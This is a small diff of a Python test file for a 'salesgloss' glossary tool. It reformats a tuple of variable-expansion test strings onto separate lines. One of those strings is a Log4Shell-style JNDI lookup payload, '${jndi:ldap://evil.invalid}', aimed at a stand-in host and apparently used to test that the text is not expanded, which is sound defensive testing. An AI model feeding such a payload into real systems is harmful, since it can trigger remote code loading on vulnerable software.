@@ -17,7 +17,14 @@ from salesgloss.exchange.publication import Publication
 from salesgloss.text import visible
 
 TERM = "urn:li:glossaryTerm:salesgloss."
-EXPANSIONS = ("${HOME}", "a ${", "$HOME", "$500 a call", "\\${A} \\ $B", "${jndi:ldap://evil.invalid}")
+EXPANSIONS = (
+    "${HOME}",
+    "a ${",
+    "$HOME",
+    "$500 a call",
+    "\\${A} \\ $B",
+    "${jndi:ldap://evil.invalid}",
+)
 
 
 @pytest.fixture
